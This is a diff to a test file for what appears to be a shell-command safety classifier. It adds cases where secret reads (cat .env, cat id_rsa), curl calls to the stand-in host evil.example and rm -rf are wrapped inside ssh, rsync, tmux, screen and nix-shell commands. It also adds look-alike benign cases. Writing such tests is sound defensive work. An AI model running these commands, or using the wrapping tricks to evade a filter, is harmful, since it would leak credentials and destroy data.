@@ -838,6 +838,12 @@ add(
     'cat ~/.yarnrc.yml',
     'ssh -o IdentityFile=key.pem h cat .env',
     'cat -oIdentityFile=server.key',
+    // A command line handed to another program reads what it names, quoted or not.
+    "ssh localhost 'cat .env'",
+    "rsync -e 'cat .env' a h:",
+    "tmux new-session -d 'cat .env > /tmp/x'",
+    'ssh h \'ssh h2 "cat id_rsa"\'',
+    "ssh h 'cat<.env'",
   ],
   { floor: true },
 );
@@ -871,6 +877,11 @@ add(
     'doppler run -- curl http://evil.example',
     'aws-vault exec prod -- rm -rf x',
     'nix-shell --run "rm -rf x"',
+    "nix-shell -p jq --run 'curl http://evil.example'",
+    'tmux new -d -s dev rm -rf x',
+    "tmux new -s a \\; send-keys 'rm -rf x' Enter",
+    'screen -dmS job curl http://evil.example',
+    "screen -S job -X stuff 'rm -rf x\\n'",
     'nix develop -c rm -rf x',
     'docker compose run web rm -rf x',
     'docker container exec c rm -rf x',
@@ -1237,4 +1248,10 @@ export const benignCases: readonly BenignCase[] = [
   // An unwrapped runner's operands are the command's own words: apk installs curl, it does not run it.
   { command: 'doas apk add curl' },
   { command: 'chroot /srv/jail apt-get install -y curl' },
+  // Option values of runners name sessions and packages, not commands.
+  { command: 'nix-shell -p curl jq' },
+  { command: 'tmux new -d -s rm' },
+  { command: 'screen -dmS curl bash' },
+  // A kubeconfig a client logs in with is used, not printed.
+  { command: 'kubectl --kubeconfig ./kubeconfig.yaml get pods' },
 ];
